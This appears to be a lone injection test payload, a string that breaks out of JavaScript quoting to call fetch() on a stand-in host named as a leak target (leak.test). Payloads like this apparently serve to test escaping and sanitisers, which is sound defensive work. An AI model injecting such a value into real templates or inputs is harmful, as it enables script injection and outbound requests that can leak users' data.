`"`; fetch("https://js-template-hides-quote.leak.test/"); `"`
